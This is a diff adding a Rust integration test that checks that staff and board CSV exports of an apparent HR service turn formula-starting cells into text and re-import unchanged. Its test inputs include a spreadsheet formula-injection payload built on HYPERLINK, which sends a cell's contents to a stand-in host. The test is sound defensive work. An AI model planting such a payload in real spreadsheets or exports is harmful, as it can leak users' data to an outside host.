@@ -123,3 +123,64 @@ async fn a_download_date_that_is_not_a_date_is_the_callers_error() {
     );
     server.stop().await;
 }
+
+/// A spreadsheet never runs what a cell holds: a base, a name or a home community that starts a
+/// formula is exported as text (a leading apostrophe), and the staff list imports again unchanged.
+/// (Names are trimmed when recorded, so a leading tab or carriage return is covered by the unit
+/// test of the cell rule.)
+#[tokio::test]
+async fn cells_that_would_start_a_formula_are_exported_as_text() {
+    let server = TestServer::start().await;
+    let (office, _) = mission_with_base(&server, "ALPHA").await;
+    let admin = server.admin();
+    let payloads = [
+        "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
+        "+SUM(1,2)",
+        "-2+3",
+        "@SUM(A1)",
+    ];
+    let base = cla_e2e::open_base(&server, &admin, &office, payloads[0]).await;
+    let hr = server.token(Role::MissionHr, &["ALPHA"]);
+    for (i, name) in payloads[1..].iter().enumerate() {
+        server
+            .ok(
+                &hr,
+                "mutation($b: String!, $n: String!, $h: String!, $i: String!) { registerStaffMember(input: {baseId: $b, name: $n, gender: FEMALE, homeCommunity: $h, indexNumber: $i, grade: \"GS-4\", appointment: {type: FIXED_TERM, start: \"2024-03-01\", end: \"2030-12-31\"}, effective: \"2024-03-01\"}) { id } }",
+                serde_json::json!({ "b": base, "n": name, "h": payloads[1], "i": format!("55000{i}") }),
+            )
+            .await;
+    }
+    let apps = &server.running.state.apps;
+    let caller = who(Role::MissionHr, &["ALPHA"]);
+    let staff = csvio::export_staff(apps, &caller, "ALPHA").unwrap();
+    let board = csvio::export_board(apps, &caller, "ALPHA", None).unwrap();
+    let mut all = Vec::new();
+    for text in [&staff, &board] {
+        let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
+        let mut cells = 0;
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                cells += 1;
+                all.push(cell.to_string());
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "a cell a spreadsheet would run: {cell:?} in\n{text}"
+                );
+            }
+        }
+        assert!(cells > 0);
+    }
+    for payload in payloads {
+        let shown = format!("'{payload}");
+        assert!(
+            all.contains(&shown),
+            "{payload:?} not shown as text: {all:?}"
+        );
+    }
+    let again = csvio::import_staff(apps, &caller, "ALPHA", &staff, false)
+        .await
+        .unwrap();
+    assert_eq!((again.created, again.errors.len()), (0, 0), "{again:?}");
+    assert_eq!(again.unchanged, payloads.len() - 1);
+    server.stop().await;
+}
